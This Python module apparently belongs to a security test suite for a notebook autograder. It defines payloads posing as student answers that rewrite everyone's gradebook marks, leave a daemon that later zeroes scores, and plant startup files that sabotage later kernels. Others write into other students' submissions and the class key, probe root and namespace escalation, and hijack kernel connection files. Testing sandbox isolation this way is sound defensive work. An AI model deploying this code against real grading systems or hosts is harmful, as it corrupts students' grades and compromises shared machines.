"""Attacks that want to change something that stays: marks, files, the machine, or what comes after them."""

from attacks.attack import REST, Attack

CALLS_OUT = """
import socket

def call_all():
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT_6@)),
        (socket.AF_INET, ("0.0.0.0", @PORT@)),
        (socket.AF_UNIX, "@DOOR@"), (socket.AF_UNIX, chr(0) + "@ABSTRACT@"), (socket.AF_UNIX, "/tmp/.X11-unix/X0"),
        (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "/run/docker.sock"),
    ):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(1)
                sock.connect(address)
                sock.sendall(b"@NAME@")
                if "arena" in str(address) or "@PORT@" in str(address):
                    tell("connected to", str(address).strip(chr(0)), sock.recv(200).decode())
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"@NAME@", ("127.0.0.1", @UDP_PORT@))
    except OSError:
        pass
"""

CALLS_IN_CELL = CALLS_OUT + "\ncall_all()\n\ndef rms(x):\n    return 0.0\n"
CALLS_IN_CALL = CALLS_OUT + "\ndef rms(x):\n    call_all()\n    return 0.0\n"

WRITES_MARKS = """
import glob, sqlite3

for path in ["@CLASS@/gradebook.db", "../../../gradebook.db", *glob.glob("/*/gradebook.db")]:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2) as book:
            book.execute("update grade set manual_score = 4.0")  # all that are there, so also one's own
            change = "update grade set manual_score = 0 where id = new.id and manual_score is null"
            book.execute(f"create trigger arena after update of auto_score on grade begin {change}; end")
            tell("rewrote marks in", path)
    except sqlite3.Error as error:
        print(error)

def rms(x):
    return 0.0
"""

REWRITES = """
import glob, os

for pattern in (
    "@CLASS@/journal.jsonl", "@CLASS@/submitted/zoe/*/*.ipynb", "@CLASS@/source/*/*.ipynb", "@CLASS@/secret.key",
    "@CLASS@/nbgrader_config.py", "@HOME@/.ssh/id_ed25519", "../../zoe/*/*.ipynb", "../../../submitted/zoe/*/*",
):
    for path in glob.glob(pattern):
        try:
            with open(path, "a") as file:
                file.write("\\n")
            tell("wrote into", path)
        except OSError as error:
            print(error)
for path in ("@PROJECT@/physiodl/metrics.py", "@PROJECT@/autograder/grade.py", "/course/physiodl/metrics.py",
             "/course/autograder/wire.py", np.__file__, os.__file__):
    if os.access(path, os.W_OK):
        try:
            open(path, "ab").close()  # nothing is written: it may be the machine's own
            tell("could rewrite", path)
        except OSError:
            pass

def rms(x):
    return 0.0
"""

STAYS = """
import os, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(0, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        import signal, sqlite3
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        time.sleep(3)
        for _ in range(20):
            try:
                with sqlite3.connect("file:@CLASS@/gradebook.db?mode=rw", uri=True, timeout=2) as book:
                    book.execute("update grade set auto_score = 0")
                open("@CLASS@/left-by-daemon", "w").write("x")
            except Exception:
                pass
            time.sleep(1)
    os._exit(0)

def rms(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(20)
        os._exit(0)
    return 0.0
"""

STARTUP = """
import os

text = '''
import builtins
builtins.abs = lambda value: 1e9
raise SystemExit
'''
home = os.path.expanduser("~")
for name in (".ipython/profile_default/startup/00-arena.py", ".pythonrc.py",
             ".local/lib/python3.11/site-packages/arena.pth",
             ".ipython/profile_default/arena_config.py", ".jupyter/arena_config.py", ".config/matplotlib/arena.rc"):
    for root in (home, "@HOME@", os.environ.get("IPYTHONDIR", home)):
        try:
            path = os.path.join(root, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(text if name.endswith(".py") else "")
        except OSError:
            pass

def rms(x):
    return 0.0
"""

PRIVILEGES = """
import ctypes, os, subprocess

libc = ctypes.CDLL(None, use_errno=True)

def attempt(what, call):
    try:
        if call():
            tell(what)
    except Exception as error:
        print(what, type(error).__name__)

def wrote(path, text):
    with open(path, "w") as file:
        file.write(text)
    return True

def child(work):
    pid = os.fork()
    if pid == 0:
        code = 1
        try:
            code = 0 if work() else 1
        finally:
            os._exit(code)
    return os.waitpid(pid, 0)[1] == 0

def mount():
    if libc.unshare(0x00020000) == 0:  # as root without walls: the machine's own mounts stay as they are
        libc.mount(None, b"/", None, 0x44000, None)
    return libc.mount(b"none", b"mnt", b"tmpfs", 0, None) == 0 and libc.umount2(b"mnt", 2) == 0

os.makedirs("mnt", exist_ok=True)
attempt("is root", lambda: os.getuid() == 0)
attempt("made a user namespace", lambda: child(lambda: libc.unshare(0x10000000) == 0))
attempt("made a mount namespace", lambda: child(lambda: libc.unshare(0x00020000) == 0))
attempt("made a network namespace", lambda: child(lambda: libc.unshare(0x40000000) == 0))
attempt("mounted", lambda: child(mount))
attempt("became root", lambda: libc.setuid(0) == 0 and os.getuid() == 0)
attempt("made a device", lambda: os.mknod("disk", 0o60600, os.makedev(254, 0)) is None)
attempt("read the kernel's log", lambda: libc.klogctl(3, ctypes.create_string_buffer(100), 100) > 0)
attempt("changed a kernel setting", lambda: wrote("/proc/sys/kernel/ns_last_pid", "300"))
attempt("wrote to sysrq", lambda: os.access("/proc/sysrq-trigger", os.W_OK))
groups = ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory")
attempt("can write to control groups", lambda: any(os.access(path, os.W_OK) for path in groups))
attempt("has capabilities", lambda: "CapEff:\\t0000000000000000" not in open("/proc/self/status").read())
attempt("may gain privileges", lambda: "NoNewPrivs:\\t1" not in open("/proc/self/status").read())
parent = os.getppid()
attempt("traces another process", lambda: child(lambda: libc.ptrace(0x4206, parent, 0, 0) == 0))  # PTRACE_SEIZE
attempt("opened the terminal", lambda: os.open("/dev/tty", os.O_RDWR) > 0)
attempt("made itself more important", lambda: os.nice(-5) < 0)
sudo = ["sudo", "-n", "true"]
attempt("sudo", lambda: subprocess.run(sudo, capture_output=True, timeout=2, stdin=subprocess.DEVNULL).returncode == 0)
for name in ("core_pattern", "modprobe", "hostname"):
    attempt(f"can write {name}", lambda: os.access(f"/proc/sys/kernel/{name}", os.W_OK))

def rms(x):
    return 0.0
"""

KERNEL_FILES = """
import glob, json, os, sys

config = next((a for a in sys.argv if a.endswith(".json")), None)
path = config or getattr(__import__("ipykernel"), "get_connection_file")()
print(path)
facts = json.load(open(path))
target = "@CLASS@/hidden/af_detection/labels.npy"
for name in glob.glob(os.path.dirname(path) + "/*") + glob.glob(str(facts.get("ip")) + "-*"):
    try:
        os.unlink(name)
        os.symlink(target, name)
        print("replaced", name)
    except OSError as error:
        print(error)

def rms(x):
    return 0.0
"""

ATTACKS = [
    Attack(
        "calls_out_in_cell", 14, "An answer cell calls servers on loopback and Unix sockets.", {"rms": CALLS_IN_CELL}
    ),
    Attack(
        "calls_out_in_call",
        14,
        "The tested function calls servers on loopback and Unix sockets.",
        {"rms": CALLS_IN_CALL},
    ),
    Attack("writes_marks", 15, "Rewrites everybody's marks in the gradebook.", {"rms": WRITES_MARKS}),
    Attack("stays_behind", 16, "A daemon outlives the grading and then rewrites marks.", {"rms": STAYS}),
    Attack(
        "rewrites_files",
        None,
        "Writes into journal, others' submissions, class key, the grader itself.",
        {"rms": REWRITES},
    ),
    Attack("startup_files", None, "Leaves files that the next students' kernels would run.", {"rms": STARTUP}),
    Attack("privileges", None, "Namespaces, mounts, devices, set-uid programs, kernel settings.", {"rms": PRIVILEGES}),
    Attack(
        "kernel_files",
        None,
        "Replaces the kernel's connection file and sockets by links.",
        {"rms": KERNEL_FILES},
        costs=REST,
    ),
]
